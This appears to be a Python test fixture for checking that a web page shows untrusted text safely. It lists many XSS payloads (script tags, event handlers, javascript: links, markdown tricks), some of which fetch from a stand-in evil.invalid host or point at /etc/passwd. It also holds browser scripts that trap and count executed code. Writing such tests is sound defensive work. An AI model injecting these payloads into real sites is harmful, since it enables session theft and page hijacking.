"""Texts that would run a script in a page that takes them for markup: as a prompt, an answer, a name or a label.

Each calls `alert`, leads to `javascript:`, or fetches from a host that does not exist. A page that shows text as text
does nothing of it.
"""

from __future__ import annotations

from typing import Final

CALL: Final = "alert(1)"

_ELEMENTS: Final = (
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<script src=data:text/javascript,{call}></script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>{call}</script>",
    "<script/x>{call}</script/x>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script>\n{call}\n//</script>",
    "<script><!--\n{call}//--></script>",
    "<script async nomodule>{call}</script",
    "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'>",
    '<img src="x" onerror="{call}">',
    "<img/src=x/onerror={call}>",
    "<img\tsrc=x\tonerror={call}>",
    "<img src=x onerror\n=\n{call}>",
    "<IMG SRC=x OnErRoR={call}>",
    "<img src=javascript:{call}>",
    "<img src=x:x onerror=eval(src)>",
    "<img srcset=x onerror={call}>",
    "<img src=http://evil.invalid/pixel.png>",
    "<image src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><script xlink:href=data:,{call} /></svg>",
    "<svg><a xlink:href=javascript:{call}><text y=20>here</text></a></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributeName=x to=1>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>",
    "<svg><foreignObject><iframe onload={call}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{call}>here</math>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe onload={call}></iframe>",
    "<frameset onload={call}><frame></frameset>",
    "<object data=javascript:{call}></object>",
    "<object data=data:text/html,<script>{call}</script>></object>",
    "<embed src=javascript:{call}>",
    "<applet code=x onerror={call}></applet>",
    "<audio src=x onerror={call}>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<video poster=javascript:{call}></video>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<input autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<select autofocus onfocus={call}></select>",
    "<button autofocus onfocus={call}>x</button>",
    "<a autofocus tabindex=0 onfocus={call}>x</a>",
    "<keygen autofocus onfocus={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<div onpointerover={call}>x</div>",
    "<div style=animation-name:blink onanimationstart={call}>x</div>",
    "<div style='width:expression({call})'>x</div>",
    "<div style=background:url(javascript:{call})>x</div>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<style>*{{animation:x}}@keyframes x{{}}</style><b onanimationstart={call}>x</b>",
    "<link rel=stylesheet href=data:,*{{display:none}}>",
    "<link rel=import href=data:text/html,<script>{call}</script>>",
    "<link rel=prefetch href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<form><button formaction=javascript:{call}>x</button></form>",
    "<isindex action=javascript:{call} type=image>",
    "<a href=javascript:{call}>here</a>",
    "<a href=JaVaScRiPt:{call}>here</a>",
    "<a href=' javascript:{call}'>here</a>",
    "<a href='java\tscript:{call}'>here</a>",
    "<a href='java\nscript:{call}'>here</a>",
    "<a href='&#106;avascript:{call}'>here</a>",
    "<a href='&#x6A;avascript:{call}'>here</a>",
    "<a href=javascript&colon;{call}>here</a>",
    "<a href=data:text/html,<script>{call}</script>>here</a>",
    "<a href=vbscript:{call}>here</a>",
    "<table background=javascript:{call}><tr><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<title></title><script>{call}</script>",
    "<textarea></textarea><script>{call}</script>",
    "<xmp><script>{call}</script></xmp>",
    "<plaintext><script>{call}</script>",
    "<dialog open onclose={call}>x</dialog>",
    "<slot onslotchange={call}></slot>",
    "<x onclick={call} autofocus tabindex=1 onfocus={call}>x</x>",
)
_OUT_OF_PLACES: Final = (
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    "</pre></code><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</script><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    '" onmouseover="{call}" x="',
    "' onfocus='{call}' autofocus='",
    "` onerror=`{call}`",
    '\\"><script>{call}</script>',
    "';{call};//",
    '";{call};//',
    "</option></select><img src=x onerror={call}>",
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<%= {call} %>",
    "#{{{call}}}",
    "javascript:{call}",
    "javascript:{call}//http://example.org",
    "data:text/html,<script>{call}</script>",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\ufeff<script>{call}</script>",
    "\u202e<script>{call}</script>",
    "<\u0000script>{call}</script>",
    "＜script＞{call}＜/script＞",
    "<script\u2028>{call}</script>",
    "data: {call}\n\nevent: message\ndata: [DONE]\n\n<script>{call}</script>",
    "__proto__",
    "constructor",
)
_IN_MARKDOWN: Final = (
    "[here](javascript:{call})",
    "[here](JAVASCRIPT:{call})",
    "[here]( javascript:{call} )",
    "[here](<javascript:{call}>)",
    "[here](java&#115;cript:{call})",
    "[here](javascript&colon;{call})",
    "[here](java%0ascript:{call})",
    "[here](\\javascript:{call})",
    "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[here](vbscript:{call})",
    "[here](file:///etc/passwd)",
    "[here](blob:http://evil.invalid/x)",
    "[here](http://example.org 'x\" onmouseover=\"{call}')",
    '[here](http://example.org"onmouseover={call})',
    "[<img src=x onerror={call}>](http://example.org)",
    "[here][1]\n\n[1]: javascript:{call}",
    "[here]\n\n[here]: <javascript:{call}> 'title'",
    "![x](javascript:{call})",
    '![x](x"onerror="{call})',
    "![x](data:image/svg+xml,<svg onload={call}>)",
    '!["onerror="{call}](x)',
    "![x](http://evil.invalid/pixel.png)",
    "<javascript:{call}>",
    "<data:text/html,<script>{call}</script>>",
    '<http://example.org/"onclick={call}>',
    "`<script>{call}</script>`",
    "```\n<script>{call}</script>\n```",
    '```html"><script>{call}</script>\n<b>x</b>\n```',
    "```x onclick={call}\nx\n```",
    "    <script>{call}</script>",
    "# <script>{call}</script>",
    "> <img src=x onerror={call}>",
    "- <img src=x onerror={call}>\n- [ ] <svg onload={call}>",
    "1. <iframe src=javascript:{call}></iframe>",
    "| <script>{call}</script> | b |\n|---|---|\n| <img src=x onerror={call}> | `<svg onload={call}>` |",
    "**<script>{call}</script>**",
    "*<img src=x onerror={call}>*",
    "~~<svg onload={call}>~~",
    "<b>bold</b> <i onmouseover={call}>x</i>",
    "<div>\n\n**x** <script>{call}</script>\n\n</div>",
    "a <!-- --><script>{call}</script> b",
    "<?php {call} ?>",
    "<!DOCTYPE html><script>{call}</script>",
    "<![CDATA[<script>{call}</script>]]>",
    "\\<script>{call}\\</script>",
    "https://example.org/?<script>{call}</script>",
    'www.example.org/"onmouseover="{call}',
    'x@example.org"onclick="{call}',
    "$$<script>{call}</script>$$",
    "[^1]\n\n[^1]: <script>{call}</script>",
)
_CALLS: Final = ("alert`1`", "top['al'+'ert'](1)", "window.alert?.(document.domain)")

HOSTILE: Final = tuple(
    dict.fromkeys(
        [text.format(call=CALL) for text in (*_ELEMENTS, *_OUT_OF_PLACES, *_IN_MARKDOWN)]
        + [
            text.format(call=call)
            for call in _CALLS
            for text in (_ELEMENTS[0], _ELEMENTS[10], _ELEMENTS[22], *_IN_MARKDOWN[:6])
        ]
    )
)

TRAP: Final = """
window.trapped = [];
const trap = name => { window[name] = (...words) => { trapped.push([name, ...words.map(String)]); }; };
["alert", "confirm", "prompt", "print", "open"].forEach(trap);
const refused = event => trapped.push(["policy", event.violatedDirective, event.blockedURI]);
addEventListener("securitypolicyviolation", refused);
addEventListener("error", event => trapped.push(["error", String(event.message)]), true);
"""
"""A script for `Browser.before_each_page`: `window.trapped` has what was executed, refused by the policy, or failed."""

CENSUS: Final = """
const foreign = ["iframe", "object", "embed", "base", "frame", "audio", "video", "img", "style", "math", "marquee"];
const links = ["href", "src", "action", "formaction", "xlink:href", "data"];
const bad = [];
for (const node of document.querySelectorAll("*")) {
  const tag = node.localName;
  if (foreign.includes(tag)) bad.push(tag);
  if (tag === "script" && !node.src.startsWith(location.origin + "/pages/")) bad.push("script " + node.src);
  for (const { name, value } of node.attributes) {
    if (/^on/i.test(name)) bad.push(tag + " " + name);
    if (links.includes(name) && !/^(https?:|mailto:|\\/|#)/.test(value)) bad.push(tag + " " + name + "=" + value);
  }
}
return bad;
"""
"""A script for `Browser.run`: what the page has of elements and attributes that only markup of others can have made."""
